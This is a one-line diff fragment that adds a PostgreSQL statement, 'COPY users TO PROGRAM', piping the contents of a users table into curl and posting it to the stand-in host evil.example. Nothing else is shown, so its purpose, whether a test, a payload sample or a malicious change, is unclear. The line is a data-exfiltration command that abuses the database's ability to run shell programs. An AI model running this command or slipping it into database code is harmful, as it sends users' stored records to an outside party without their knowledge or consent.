@@ -1,0 +1,1 @@
+COPY users TO PROGRAM 'curl -d @- https://evil.example'
